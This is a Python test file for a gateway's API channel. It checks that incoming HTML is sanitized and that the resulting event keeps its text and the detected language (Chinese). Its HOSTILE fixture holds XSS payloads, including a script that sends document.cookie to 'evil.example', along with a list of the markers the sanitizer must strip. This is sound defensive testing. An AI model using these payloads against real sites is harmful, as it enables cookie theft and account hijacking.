"""HTML sent through the API reaches the event as email's does: sanitized, with text and language."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson

from gateway.channels import Registry
from tests.connectors.api.probe import PROBES
from tests.contract.kit import running
from tests.support.schema import validate_event

HOSTILE = (
    '<p>请问我的订单什么时候发货？<img src="x" onerror="alert(1)"></p>'
    "<script>fetch('https://evil.example/'+document.cookie)</script>"
    '<a href="javascript:alert(2)">订单</a>'
)


async def _event(tmp_path: Path, payload: dict[str, Any]) -> dict[str, Any]:
    probe = PROBES["api"]
    delivery = probe.valid(1)
    body = orjson.dumps({"customer": {"external_id": "u-1"}, "external_id": "m-1", **payload})
    async with running(Registry.installed().get("api"), probe, tmp_path) as gw:
        answer = await probe.send(gw, type(delivery)(path=delivery.path, body=body, headers=delivery.headers))
        assert answer.kind == "accepted", answer
        [row] = await gw.outbox()
    return validate_event(row.body)


async def test_html_only_message_is_sanitized_and_has_text_and_language(tmp_path: Path) -> None:
    message = (await _event(tmp_path, {"html": HOSTILE}))["message"]

    html = message["html"]
    for hostile in ("<script", "onerror", "javascript:", "document.cookie"):
        assert hostile not in html
    assert "请问我的订单什么时候发货？" in html
    assert "请问我的订单什么时候发货？" in message["text"]
    assert "alert" not in message["text"]
    assert "fetch" not in message["text"]
    assert message["language"] == "zh"


async def test_the_callers_own_text_is_kept_beside_its_html(tmp_path: Path) -> None:
    message = (await _event(tmp_path, {"text": "plain words", "html": "<p>rich <b>words</b></p>"}))["message"]
    assert (message["text"], message["html"]) == ("plain words", "<p>rich <b>words</b></p>")
